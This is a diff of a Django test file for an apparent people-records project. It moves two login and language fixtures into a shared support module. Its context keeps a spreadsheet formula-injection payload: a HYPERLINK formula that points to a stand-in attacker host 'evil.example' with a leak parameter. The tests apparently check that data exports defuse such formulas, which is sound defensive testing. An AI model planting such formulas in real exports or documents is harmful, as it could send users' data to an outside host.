@@ -13,20 +13,9 @@ from django.urls import reverse
 from mekendesh.audit.models import AuditEvent
 from mekendesh.people.models import NameForm, Script
 from mekendesh.people.services import NameInput, name_add
+from mekendesh.people.tests.migrant_support import aigerim, client  # noqa: F401  (fixtures)
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak","Click me")'
-
-
-@pytest.fixture
-def client(client):
-    client.defaults["HTTP_ACCEPT_LANGUAGE"] = "en"
-    return client
-
-
-@pytest.fixture
-def aigerim(client, registered_migrant):
-    client.force_login(registered_migrant.account)
-    return registered_migrant
 
 
 def exports_of(person):
